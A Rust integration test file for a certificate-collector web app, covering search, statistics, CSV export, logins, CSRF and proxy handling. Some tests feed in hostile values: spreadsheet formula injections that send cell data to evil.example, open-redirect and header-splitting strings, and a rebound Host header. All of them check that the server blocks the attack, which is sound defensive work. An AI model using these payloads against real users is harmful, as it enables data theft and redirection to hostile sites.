//! The web UI: list, search, certificate page and statistics read back in headless Chromium
//! (screenshots kept under target/tmp/collector-ui/), the CSV export (as a French spreadsheet
//! reads it), and logins: required by default, behind a stand-in reverse proxy too; the
//! explicit no-login mode only for this machine; where a login may send the browser; the cap on
//! attempts.

mod support;

use reprise_cert::verdict::Decision;
use std::time::{Duration, Instant};

use support::{
    Proxy, Server, Signed, Spec, Station, cli, cli_ok, dump_dom, enroll, request, screenshot,
};

/// A database with a small workshop: two stations, two sites, passed and failed disks,
/// refurbished and recycled machines over two months. Returns the certificates.
fn workshop(db: &str) -> Vec<Signed> {
    let mut a = Station::new();
    let mut b = Station::new();
    enroll(db, &a, "stick-a", "Collège Pasteur, Besançon");
    enroll(db, &b, "stick-b", "Lycée Hugo");
    let specs = [
        (
            "SN-100",
            "Collège Pasteur, Besançon",
            "2026-10-02T09:00:00.000Z",
            false,
            Decision::Refurbish,
            "ThinkPad T480",
        ),
        (
            "SN-101",
            "Collège Pasteur, Besançon",
            "2026-10-02T10:00:00.000Z",
            true,
            Decision::Refurbish,
            "ThinkPad T480",
        ),
        (
            "SN-102",
            "Collège Pasteur, Besançon",
            "2026-10-15T10:00:00.000Z",
            false,
            Decision::Recycle,
            "Latitude 5490",
        ),
        (
            "SN-100",
            "Collège Pasteur, Besançon",
            "2026-11-03T08:00:00.000Z",
            false,
            Decision::Refurbish,
            "ThinkPad T480",
        ),
        (
            "SN-200",
            "Lycée Hugo",
            "2026-11-04T08:00:00.000Z",
            false,
            Decision::Refurbish,
            "EliteBook 840",
        ),
        (
            "SN-201",
            "Lycée Hugo",
            "2026-11-05T08:00:00.000Z",
            true,
            Decision::Recycle,
            "EliteBook 840",
        ),
        (
            "SN-202",
            "Lycée Hugo",
            "2026-11-20T08:00:00.000Z",
            false,
            Decision::Refurbish,
            "Latitude 5490",
        ),
    ];
    let server = Server::open(db, &[]);
    let mut out = Vec::new();
    for (serial, site, at, failed, decision, product) in specs {
        let st = if site.starts_with("Lycée") {
            &mut b
        } else {
            &mut a
        };
        let c = st.issue(&Spec {
            serial: serial.into(),
            site: site.into(),
            issued_at: at.into(),
            failed,
            decision,
            product: Some(product.into()),
        });
        assert_eq!(server.upload(&c.bytes).status, 201, "{serial}");
        out.push(c);
    }
    out
}

fn rows_of(dom: &str) -> usize {
    let start = dom.find("<tbody>").expect("a table body");
    let end = dom[start..].find("</tbody>").unwrap() + start;
    dom[start..end].matches("<tr>").count()
}

#[test]
fn list_and_search_in_chromium() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("c.db");
    let db = db.to_str().unwrap();
    let certs = workshop(db);
    let server = Server::open(db, &[]);
    let plain = server.get("/certificates");
    let csp = plain.header("content-security-policy").unwrap();
    assert!(
        csp.contains("default-src 'none'") && !csp.contains("script-src"),
        "{csp}"
    );
    assert_eq!(plain.header("x-content-type-options"), Some("nosniff"));
    let dom = dump_dom(&server.url("/certificates?lang=en"));
    assert!(dom.contains("<html lang=\"en\">"), "{dom}");
    assert_eq!(rows_of(&dom), certs.len(), "{dom}");
    assert!(dom.contains("<span id=\"total\">7</span>"), "{dom}");
    for c in &certs {
        assert!(dom.contains(&format!("/c/{}", c.hex())), "{} missing", c.id);
    }
    // Each criterion of the search; a few in Chromium, all over plain HTTP (same HTML).
    for (query, expected) in [
        ("serial=SN-201", 1),
        ("site=Hugo&result=failed", 1),
        ("from=2026-11-01", 4),
    ] {
        let dom = dump_dom(&server.url(&format!("/certificates?{query}&lang=en")));
        assert_eq!(rows_of(&dom), expected, "{query}");
    }
    for (query, expected) in [
        ("serial=sn-10", 4),
        ("serial=SN-201", 1),
        ("model=elitebook", 2),
        ("model=T480", 3),
        ("site=Hugo", 3),
        ("from=2026-11-01", 4),
        ("from=2026-10-02&to=2026-10-02", 2),
        ("decision=recycle", 2),
        ("result=failed", 2),
        ("result=failed&site=Pasteur", 1),
        ("serial=nothing-like-this", 0),
    ] {
        let html = server.get(&format!("/certificates?{query}&lang=en")).text();
        assert_eq!(rows_of(&html), expected, "{query}");
        assert!(
            html.contains(&format!("<span id=\"total\">{expected}</span>")),
            "{query}"
        );
    }
    // French on request; the switch keeps the search.
    let fr = dump_dom(&server.url("/certificates?site=Hugo&lang=fr"));
    assert!(
        fr.contains("<html lang=\"fr\">") && fr.contains("Rechercher"),
        "{fr}"
    );
    assert!(
        fr.contains("site=Hugo&amp;lang=en"),
        "language switch keeps the search: {fr}"
    );
    // Without ?lang: Accept-Language, else French; a chosen language sticks (cookie).
    let lang_of = |headers: &[(&str, &str)]| {
        let html = request(server.addr, "GET", "/certificates", headers, b"").text();
        html[html.find("<html lang=\"").unwrap() + 12..][..2].to_string()
    };
    assert_eq!(lang_of(&[]), "fr");
    assert_eq!(lang_of(&[("Accept-Language", "en-GB,en;q=0.9")]), "en");
    assert_eq!(
        lang_of(&[("Accept-Language", "de,fr;q=0.5,en;q=0.3")]),
        "fr"
    );
    assert_eq!(
        lang_of(&[("Accept-Language", "fr"), ("Cookie", "reprise_lang=en")]),
        "en"
    );
    let png = screenshot(&server.url("/certificates?lang=fr"), "list.png", "1280,900");
    eprintln!("screenshot: {}", png.display());
}

#[test]
fn certificate_page_in_chromium() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("c.db");
    let db = db.to_str().unwrap();
    let certs = workshop(db);
    let server = Server::open(db, &["--public-url", "http://collector.localhost:8080/"]);
    let failed = &certs[1];
    let url = server.url(&format!("/c/{}", failed.hex()));
    let dom = dump_dom(&format!("{url}?lang=fr"));
    assert!(dom.contains("Signature valide"), "{dom}");
    assert!(dom.contains(&failed.id) && dom.contains("SN-101"), "{dom}");
    assert!(dom.contains("<svg"), "QR code: {dom}");
    assert!(
        dom.contains(&format!(
            "http://collector.localhost:8080/c/{}",
            failed.hex()
        )),
        "the QR URL uses --public-url: {dom}"
    );
    // Chain position: #2 of stick-a, after #1.
    assert!(
        dom.contains(&format!("/c/{}", certs[0].hex())),
        "link to the previous: {dom}"
    );
    assert!(dom.contains("stick-a"), "{dom}");
    // The content as reprise-cert renders it (the failed disk, in the certificate's language).
    assert!(dom.contains("failed"), "{dom}");
    let en = dump_dom(&format!("{url}?lang=en"));
    assert!(
        en.contains("Signature valid") && en.contains("Chain of the station"),
        "{en}"
    );
    let png = screenshot(&url, "certificate.png", "1000,1800");
    eprintln!("screenshot: {}", png.display());
    // Unknown digests and junk are 404.
    assert_eq!(server.get(&format!("/c/{}", "0".repeat(64))).status, 404);
    assert_eq!(server.get("/c/not-a-digest").status, 404);
}

#[test]
fn statistics_in_chromium() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("c.db");
    let db = db.to_str().unwrap();
    workshop(db);
    let server = Server::open(db, &[]);
    let dom = dump_dom(&server.url("/stats?lang=en"));
    assert!(
        dom.contains("<svg") && dom.contains("id=\"chart\""),
        "{dom}"
    );
    // Every site, whole period: 6 machines (SN-100 twice), 4 refurbished, 2 recycled,
    // 5 disks sanitized, 2 failures, 7 certificates.
    let total = &dom[dom.find("id=\"total\"").unwrap()..];
    let total = &total[..total.find("</table>").unwrap()];
    assert!(
        total.contains("<strong>6</strong></td><td><strong>4</strong></td><td><strong>2</strong></td><td><strong>5</strong></td><td><strong>2</strong></td><td><strong>7</strong>"),
        "{total}"
    );
    // One site, one month.
    let hugo = dump_dom(&server.url("/stats?site=Lyc%C3%A9e+Hugo&from=2026-11&to=2026-11&lang=en"));
    let total = &hugo[hugo.find("id=\"total\"").unwrap()..];
    assert!(
        total.contains(
            "<td>2026-11</td><td>3</td><td>2</td><td>1</td><td>2</td><td>1</td><td>3</td>"
        ),
        "{total}"
    );
    assert!(!hugo.contains("2026-10"), "{hugo}");
    let fr = dump_dom(&server.url("/stats?lang=fr"));
    assert!(
        fr.contains("Machines reçues") && fr.contains("Collège Pasteur, Besançon"),
        "{fr}"
    );
    let png = screenshot(&server.url("/stats?lang=fr"), "stats.png", "1280,1400");
    eprintln!("screenshot: {}", png.display());
}

#[test]
fn csv_exports_what_the_list_shows() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("c.db");
    let db = db.to_str().unwrap();
    let certs = workshop(db);
    let server = Server::open(db, &[]);
    let r = server.get("/certificates.csv?site=Pasteur&decision=refurbish");
    assert_eq!(r.status, 200);
    assert!(r.header("content-type").unwrap().starts_with("text/csv"));
    assert!(
        r.header("content-disposition")
            .unwrap()
            .contains("certificates.csv")
    );
    let text = r.text();
    let lines: Vec<&str> = text.split("\r\n").filter(|l| !l.is_empty()).collect();
    assert!(
        lines[0].starts_with("issued_at,site,organisation,operator,vendor"),
        "{text}"
    );
    assert!(text.ends_with("\r\n"), "RFC 4180 line ends");
    // Same rows as the list with the same search: 3 refurbished at Pasteur, newest first.
    let list = server
        .get("/certificates?site=Pasteur&decision=refurbish")
        .text();
    assert!(list.contains("<span id=\"total\">3</span>"));
    assert_eq!(lines.len(), 1 + 3, "{text}");
    // The comma in the site is quoted; each row names its certificate.
    assert!(
        lines[1].starts_with("2026-11-03T08:00:00.000Z,\"Collège Pasteur, Besançon\","),
        "{}",
        lines[1]
    );
    for c in [&certs[3], &certs[1], &certs[0]] {
        assert!(text.contains(&c.digest), "{}", c.id);
    }
    let all = server.get("/certificates.csv").text();
    assert_eq!(
        all.split("\r\n").filter(|l| !l.is_empty()).count(),
        1 + certs.len()
    );
    assert_eq!(server.get("/certificates.csv?from=yesterday").status, 400);
}

fn set_cookie<'a>(r: &'a support::Resp, name: &str) -> Option<&'a str> {
    r.headers_named("set-cookie")
        .into_iter()
        .find(|c| c.starts_with(&format!("{name}=")))
}

fn cookie_value(set_cookie: &str) -> String {
    set_cookie
        .split(';')
        .next()
        .unwrap()
        .split_once('=')
        .unwrap()
        .1
        .to_string()
}

#[test]
fn pages_need_a_login_when_asked_or_off_loopback() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("c.db");
    let db = db.to_str().unwrap();
    let certs = workshop(db);
    let out = cli(&["user", "add", "amina", "--db", db], Some("short\n"));
    assert!(!out.status.success(), "8 characters at least");
    let out = cli(
        &["user", "add", "amina", "--db", db],
        Some("correct horse battery\n"),
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    let server = Server::start(db, &["--require-login"]);
    let r = server.get("/certificates?site=Hugo");
    assert_eq!(r.status, 303);
    assert_eq!(
        r.header("location"),
        Some("/login?next=%2Fcertificates%3Fsite%3DHugo")
    );
    for path in [
        "/certificates.csv",
        "/stats",
        "/stations",
        &format!("/c/{}", certs[0].hex()),
    ] {
        assert_eq!(server.get(path).status, 303, "{path} without a session");
    }
    // The API does not need a login: stations sign their certificates.
    assert_eq!(server.upload(&certs[0].bytes).status, 200);

    let page = server.get("/login?next=/stats");
    assert_eq!(page.status, 200);
    let csrf_cookie = set_cookie(&page, "reprise_csrf")
        .expect("a CSRF cookie")
        .to_string();
    assert!(csrf_cookie.contains("HttpOnly") && csrf_cookie.contains("SameSite=Strict"));
    let csrf = cookie_value(&csrf_cookie);
    assert!(
        page.text()
            .contains(&format!("name=\"csrf\" value=\"{csrf}\""))
    );
    let cookie = format!("reprise_csrf={csrf}");
    let post = |body: &str, cookie: &str| {
        request(
            server.addr,
            "POST",
            "/login",
            &[
                ("Content-Type", "application/x-www-form-urlencoded"),
                ("Cookie", cookie),
            ],
            body.as_bytes(),
        )
    };
    let wrong = post(
        &format!("user=amina&password=wrong&csrf={csrf}&next=/stats"),
        &cookie,
    );
    assert_eq!(wrong.status, 401);
    assert!(set_cookie(&wrong, "reprise_session").is_none());
    let no_csrf = post(
        "user=amina&password=correct+horse+battery&csrf=&next=/stats",
        &cookie,
    );
    assert_eq!(
        no_csrf.status, 403,
        "a form without the CSRF token is refused"
    );
    let forged = post(
        &format!(
            "user=amina&password=correct+horse+battery&csrf={}",
            "0".repeat(64)
        ),
        &cookie,
    );
    assert_eq!(forged.status, 403);
    let ok = post(
        &format!("user=amina&password=correct+horse+battery&csrf={csrf}&next=/stats"),
        &cookie,
    );
    assert_eq!(ok.status, 303, "{}", ok.text());
    assert_eq!(ok.header("location"), Some("/stats"));
    let session = set_cookie(&ok, "reprise_session")
        .expect("a session cookie")
        .to_string();
    assert!(
        session.contains("HttpOnly") && session.contains("SameSite=Strict"),
        "{session}"
    );
    let cookies = format!(
        "reprise_csrf={csrf}; reprise_session={}",
        cookie_value(&session)
    );
    let get = |path: &str| request(server.addr, "GET", path, &[("Cookie", &cookies)], b"");
    let stats = get("/stats?lang=en");
    assert_eq!(stats.status, 200);
    assert!(stats.text().contains("amina") && stats.text().contains("Log out"));
    assert_eq!(get("/certificates.csv").status, 200);

    let logout = request(
        server.addr,
        "POST",
        "/logout",
        &[
            ("Content-Type", "application/x-www-form-urlencoded"),
            ("Cookie", &cookies),
        ],
        format!("csrf={csrf}").as_bytes(),
    );
    assert_eq!(logout.status, 303);
    assert_eq!(
        get("/stats").status,
        303,
        "the session is gone after logout"
    );
}

#[test]
fn listening_beyond_loopback_requires_a_login() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("c.db");
    let db = db.to_str().unwrap();
    // On every interface (the test still connects through 127.0.0.1).
    let mut child = std::process::Command::new(support::BIN)
        .args(["serve", "--listen", "0.0.0.0:0", "--db", db])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let mut line = String::new();
    std::io::BufRead::read_line(
        &mut std::io::BufReader::new(child.stdout.take().unwrap()),
        &mut line,
    )
    .unwrap();
    let port: u16 = line.trim().rsplit(':').next().unwrap().parse().unwrap();
    let addr = std::net::SocketAddr::from(([127, 0, 0, 1], port));
    let r = request(addr, "GET", "/certificates", &[], b"");
    let _ = child.kill();
    let _ = child.wait();
    assert_eq!(r.status, 303);
    assert!(r.header("location").unwrap().starts_with("/login"));
    let _ = cli_ok(&["list", "--db", db]);
}

/// The cells of a CSV text as a spreadsheet reads it with `sep` as the separator: a cell that
/// starts with `"` is quoted until the next lone `"` (`""` is a quote), whatever follows up to
/// the separator is kept; a line break outside quotes ends the row.
fn spreadsheet_cells(text: &str, sep: char) -> Vec<Vec<String>> {
    let mut rows = vec![Vec::new()];
    let mut cell = String::new();
    let mut chars = text.chars().peekable();
    let mut at_start = true;
    let mut quoted = false;
    while let Some(c) = chars.next() {
        if quoted {
            if c == '"' {
                if chars.peek() == Some(&'"') {
                    chars.next();
                    cell.push('"');
                } else {
                    quoted = false;
                }
            } else {
                cell.push(c);
            }
            continue;
        }
        match c {
            '"' if at_start => {
                quoted = true;
                at_start = false;
            }
            c if c == sep => {
                rows.last_mut().unwrap().push(std::mem::take(&mut cell));
                at_start = true;
            }
            '\r' if chars.peek() == Some(&'\n') => {}
            '\n' => {
                rows.last_mut().unwrap().push(std::mem::take(&mut cell));
                rows.push(Vec::new());
                at_start = true;
            }
            c => {
                cell.push(c);
                at_start = false;
            }
        }
    }
    if !cell.is_empty() {
        rows.last_mut().unwrap().push(cell);
    }
    rows.retain(|r| !r.is_empty());
    rows
}

/// A cell a spreadsheet would run as a formula.
fn formula(cell: &str) -> bool {
    cell.trim_start_matches([' ', '"'])
        .starts_with(['=', '+', '-', '@', '\t', '\r'])
}

#[test]
fn csv_opens_safely_in_a_french_spreadsheet() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("c.db");
    let db = db.to_str().unwrap();
    let mut st = Station::new();
    enroll(db, &st, "stick-1", "Lycée Hugo");
    let server = Server::open(db, &[]);
    // Donor-controlled strings (SMBIOS, disk model) and what stations type (operator, site,
    // organisation), with a formula after a `;` or a `,`, and at their start.
    let mut hostile = Vec::new();
    for sep in [";", ",", ""] {
        for start in ["=", "+", "-", "@", "\t=", "\r="] {
            hostile.push(format!(
                "Lycée{sep}{start}HYPERLINK(\"http://evil.example/?\"&A1;\"clic\")"
            ));
        }
    }
    for (n, text) in hostile.iter().enumerate() {
        let mut c = st
            .make(&Spec::default(), n as u64 + 1, st.previous.clone())
            .cert;
        let id = &mut c.machine.identity;
        id.vendor = Some(format!("LENOVO;{text}"));
        id.product = Some(format!("20L5{text}"));
        id.version = Some(format!("ThinkPad{text}"));
        id.serial = Some(format!("PF1{text}"));
        c.issuer.site = format!("Site{text}");
        c.issuer.operator = format!("Amina{text}");
        c.issuer.organisation = Some(format!("Asso{text}"));
        c.sanitization[0].device.model = Some(format!("Samsung{text}"));
        let signed = st.seal(c);
        st.previous = Some(signed.digest.clone());
        assert_eq!(server.upload(&signed.bytes).status, 201, "{text:?}");
    }
    let csv = server.get("/certificates.csv").text();
    // Read with `;` (French locale) and with `,` (RFC 4180): no cell is a formula.
    for sep in [';', ','] {
        let rows = spreadsheet_cells(&csv, sep);
        assert!(rows.len() > hostile.len(), "{sep:?}: {} rows", rows.len());
        for cell in rows.iter().flatten() {
            assert!(
                !formula(cell),
                "with {sep:?}, a formula cell {cell:?} in\n{csv}"
            );
        }
    }
    // Read as written (RFC 4180): the values are there, a `'` before each formula start.
    let rows = spreadsheet_cells(&csv, ',');
    assert_eq!(rows[0].len(), 19);
    for row in &rows[1..] {
        assert_eq!(row.len(), 19, "{row:?}");
        let vendor = row[4].replace('\'', "");
        assert!(
            hostile.iter().any(|h| vendor == format!("LENOVO;{h}")),
            "{vendor:?}"
        );
    }
}

/// A running `serve` that should have refused to start: waits for its exit (at most 10 s) and
/// returns its stderr.
fn refused_to_serve(db: &str, extra: &[&str]) -> String {
    let mut child = std::process::Command::new(support::BIN)
        .args(["serve", "--listen", "127.0.0.1:0", "--db", db])
        .args(extra)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let start = Instant::now();
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        if start.elapsed() > Duration::from_secs(10) {
            let _ = child.kill();
            let _ = child.wait();
            panic!("serve {extra:?} did not refuse to start");
        }
        std::thread::sleep(Duration::from_millis(50));
    };
    let mut err = String::new();
    std::io::Read::read_to_string(&mut child.stderr.take().unwrap(), &mut err).unwrap();
    assert_eq!(status.code(), Some(1), "{err}");
    err
}

/// The setup of a collector behind an https reverse proxy: it listens on loopback with a public
/// URL. Every request then arrives from 127.0.0.1, and pages still need a login.
#[test]
fn behind_a_reverse_proxy_pages_need_a_login() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("c.db");
    let db = db.to_str().unwrap();
    let certs = workshop(db);
    let server = Server::start(db, &["--public-url", "https://reprise.example.org"]);
    let proxy = Proxy::start(
        server.addr,
        &[
            ("X-Forwarded-For", "203.0.113.7"),
            ("X-Forwarded-Proto", "https"),
        ],
    );
    let hex = certs[0].hex();
    for path in [
        "/certificates".to_string(),
        "/certificates.csv".to_string(),
        "/stats".to_string(),
        "/stations".to_string(),
        format!("/c/{hex}"),
        format!("/c/{hex}.json"),
    ] {
        for addr in [proxy.addr, server.addr] {
            let r = request(addr, "GET", &path, &[], b"");
            assert_eq!(r.status, 303, "{path} through {addr}: {}", r.text());
            assert!(r.header("location").unwrap().starts_with("/login?next="));
            assert!(!r.text().contains("SN-100"), "{path}");
        }
    }
    // The API needs no login (the signature is the authentication), through the proxy too.
    let r = request(
        proxy.addr,
        "POST",
        "/api/v1/certificates",
        &[("Content-Type", "application/json")],
        &certs[0].bytes,
    );
    assert_eq!(r.status, 200, "{}", r.text());
    assert!(
        r.json()["url"]
            .as_str()
            .unwrap()
            .starts_with("https://reprise.example.org/c/")
    );
}

#[test]
fn the_no_login_mode_serves_this_machine_only() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("c.db");
    let db = db.to_str().unwrap();
    workshop(db);
    // Refused with a public URL elsewhere, or listening beyond loopback.
    let err = refused_to_serve(
        db,
        &["--no-login", "--public-url", "https://reprise.example.org"],
    );
    assert!(
        err.contains("--no-login") && err.contains("--public-url"),
        "{err}"
    );
    let err = refused_to_serve(
        db,
        &[
            "--no-login",
            "--public-url",
            "http://localhost@10.0.5.1:8080",
        ],
    );
    assert!(err.contains("--no-login"), "{err}");
    let mut child = std::process::Command::new(support::BIN)
        .args(["serve", "--no-login", "--listen", "0.0.0.0:0", "--db", db])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let out = child.wait().unwrap();
    assert_eq!(out.code(), Some(1), "--no-login --listen 0.0.0.0 refused");
    // On loopback, with a loopback public URL: open to this machine...
    let server = Server::open(db, &["--public-url", "http://localhost:8080"]);
    assert_eq!(server.get("/certificates").status, 200);
    assert_eq!(server.get("/certificates.csv").status, 200);
    // ...but not to requests that came through a proxy, or that name another host.
    let proxy = Proxy::start(server.addr, &[("X-Forwarded-For", "203.0.113.7")]);
    for path in ["/certificates", "/certificates.csv", "/stats"] {
        let r = request(proxy.addr, "GET", path, &[], b"");
        assert_eq!(r.status, 403, "{path} through a proxy: {}", r.text());
        assert!(!r.text().contains("SN-100"));
    }
    for header in [
        ("Forwarded", "for=203.0.113.7;proto=https"),
        ("X-Forwarded-For", "203.0.113.7"),
        ("X-Real-IP", "203.0.113.7"),
    ] {
        let r = request(server.addr, "GET", "/certificates.csv", &[header], b"");
        assert_eq!(r.status, 403, "{header:?}: {}", r.text());
    }
    // A page asked under another name (a web page whose name was rebound to 127.0.0.1).
    let host = |name: &str| {
        let head =
            format!("GET /certificates.csv HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n");
        support::raw(server.addr, head.as_bytes())
    };
    assert_eq!(host("rebound.example:8080").status, 403);
    assert_eq!(host("localhost:8080").status, 200);
    assert_eq!(host(&server.addr.to_string()).status, 200);
}

/// A user, and the CSRF cookie and token of a fresh login form.
fn login_form(server: &Server, db: &str) -> (String, String) {
    let out = cli(
        &["user", "add", "amina", "--db", db],
        Some("correct horse battery\n"),
    );
    assert!(out.status.success());
    let page = server.get("/login");
    let csrf = cookie_value(set_cookie(&page, "reprise_csrf").unwrap());
    (format!("reprise_csrf={csrf}"), csrf)
}

fn post_login(server: &Server, cookie: &str, body: &str, client: &str) -> support::Resp {
    request(
        server.addr,
        "POST",
        "/login",
        &[
            ("Content-Type", "application/x-www-form-urlencoded"),
            ("Cookie", cookie),
            ("X-Forwarded-For", client),
        ],
        body.as_bytes(),
    )
}

#[test]
fn after_login_the_browser_goes_only_to_a_path_of_this_site() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("c.db");
    let db = db.to_str().unwrap();
    let server = Server::start(db, &[]);
    let (cookie, csrf) = login_form(&server, db);
    let login = |next: &str| {
        let r = post_login(
            &server,
            &cookie,
            &format!("user=amina&password=correct+horse+battery&csrf={csrf}&next={next}"),
            "198.51.100.1",
        );
        assert_eq!(r.status, 303, "{next}: {}", r.text());
        r.header("location").unwrap().to_string()
    };
    assert_eq!(login("%2Fstats%3Flang%3Den"), "/stats?lang=en");
    for bad in [
        "%2F%09%2Fevil.example", // "/<tab>/evil.example"
        "%2F%5Cevil.example",    // "/\\evil.example"
        "%5C%5Cevil.example",    // "\\\\evil.example"
        "%2F%2Fevil.example",    // "//evil.example"
        "https%3A%2F%2Fevil.example%2F",
        "%2F%0D%0ALocation%3A+x", // a header split
    ] {
        assert_eq!(login(bad), "/certificates", "{bad}");
    }
    // The form carries only a safe `next` too.
    let page = server.get("/login?next=%2F%09%2Fevil.example").text();
    assert!(
        page.contains("name=\"next\" value=\"/certificates\""),
        "{page}"
    );
}

#[test]
fn login_attempts_are_capped_per_client() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("c.db");
    let db = db.to_str().unwrap();
    let server = Server::start(db, &["--login-attempts", "3"]);
    let (cookie, csrf) = login_form(&server, db);
    let wrong = format!("user=amina&password=guess&csrf={csrf}");
    let right = format!("user=amina&password=correct+horse+battery&csrf={csrf}");
    // A client behind the local proxy: 3 attempts, then 429 even with the right password.
    for _ in 0..3 {
        assert_eq!(
            post_login(&server, &cookie, &wrong, "203.0.113.7").status,
            401
        );
    }
    let r = post_login(&server, &cookie, &right, "203.0.113.7");
    assert_eq!(r.status, 429, "{}", r.text());
    let wait: u64 = r.header("retry-after").unwrap().parse().unwrap();
    assert!((1..=60).contains(&wait), "{wait}");
    assert!(set_cookie(&r, "reprise_session").is_none());
    // Another client is not held up by it.
    let ok = post_login(&server, &cookie, &right, "203.0.113.8");
    assert_eq!(ok.status, 303, "{}", ok.text());
    assert!(set_cookie(&ok, "reprise_session").is_some());
}

/// A priced certificate (each action's cost, the repairs' total over the budget, the new
/// reason) is accepted and its page shows the plan: the actions with their costs, a repair not
/// priced said so, the total, the budget and what it is. A certificate issued before prices is
/// accepted as it always was and its page shows no plan and no cost.
#[test]
fn certificate_page_shows_the_priced_plan() {
    use reprise_cert::messages;
    use reprise_cert::model::{ActionRecord, ReasonRecord};
    use reprise_cert::verdict::{Action, Grade, Reason};

    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("c.db");
    let db = db.to_str().unwrap();
    let mut st = Station::new();
    enroll(db, &st, "stick-a", "Collège Pasteur, Besançon");
    let server = Server::open(db, &[]);

    let unpriced = st.issue(&Spec::default());
    assert_eq!(server.upload(&unpriced.bytes).status, 201);

    let mut c = support::template(false);
    c.id = format!("{}-{:08}", &st.key_id[7..23], st.next_sequence);
    c.chain.sequence = st.next_sequence;
    c.chain.previous_digest = st.previous.clone();
    c.chain.station_key_id = st.key_id.clone();
    let lang = c.language;
    let v = &mut c.verdict;
    for (a, cost) in v.actions.iter_mut().zip([2_000, 19_200]) {
        a.cost_cents = Some(cost);
        a.message = messages::priced_action(&a.action, Some(cost), lang);
    }
    v.actions.push(ActionRecord {
        message: messages::priced_action(&Action::ReplaceScreen, None, lang),
        action: Action::ReplaceScreen,
        cost_cents: None,
    });
    v.actions.push(ActionRecord {
        message: messages::action(&Action::Recycle, lang),
        action: Action::Recycle,
        cost_cents: None,
    });
    let over = Reason::RepairOverBudget {
        repair_cost_cents: 21_200,
        budget_cents: 18_000,
    };
    v.reasons.push(ReasonRecord {
        message: messages::reason(&over, lang),
        reason: over,
    });
    v.repair_cost_cents = Some(21_200);
    v.budget_cents = Some(18_000);
    v.budget_basis = Some(
        "plafond de revente d'un ordinateur cédé par une personne publique, 180 € TTC, \
         décret du 7 novembre 2022"
            .into(),
    );
    v.decision = Decision::Recycle;
    v.grade = Grade::C;
    c.destination = Decision::Recycle;
    let priced = st.seal(c);
    assert_eq!(
        server.upload(&priced.bytes).status,
        201,
        "a priced certificate is accepted"
    );

    let page = server.get(&format!("/c/{}?lang=fr", priced.hex()));
    assert_eq!(page.status, 200);
    let html = page.text();
    assert!(html.contains("Signature valide"), "{html}");
    let plan = {
        let start = html.find("id=\"plan\"").expect("the plan box");
        &html[start..start + html[start..].find("</div>").unwrap()]
    };
    for expected in [
        "replace battery BAT0 (41 %)</td><td class=\"num\">192 €</td>",
        "add RAM: 4 GiB installed, 1 free slot(s)</td><td class=\"num\">20 €</td>",
        "replace the screen</td><td class=\"num\"><span class=\"warn\">non chiffré</span>",
        "send to recycling</td><td class=\"num\">—</td>",
        "Réparations: <strong>212 €</strong>",
        "au-delà du budget",
        "Budget: 180 € (plafond de revente d&#39;un ordinateur cédé par une personne publique, 180 € TTC, décret du 7 novembre 2022)",
        "1 réparation(s) non chiffrée(s)",
    ] {
        assert!(plan.contains(expected), "{expected}\n{plan}");
    }
    // The content below says it too, in the certificate's language (English here).
    assert!(
        html.contains("repair 212 € over the 180 € budget"),
        "{html}"
    );
    assert!(
        html.contains("replace battery BAT0 (41 %) — 192 €"),
        "{html}"
    );

    let en = server.get(&format!("/c/{}?lang=en", priced.hex())).text();
    assert!(
        en.contains("Repairs: <strong>212 €</strong>") && en.contains("over the budget"),
        "{en}"
    );

    let old = server.get(&format!("/c/{}", unpriced.hex())).text();
    assert!(old.contains("Signature valid") || old.contains("Signature valide"));
    assert!(!old.contains("id=\"plan\"") && !old.contains('€'), "{old}");
}
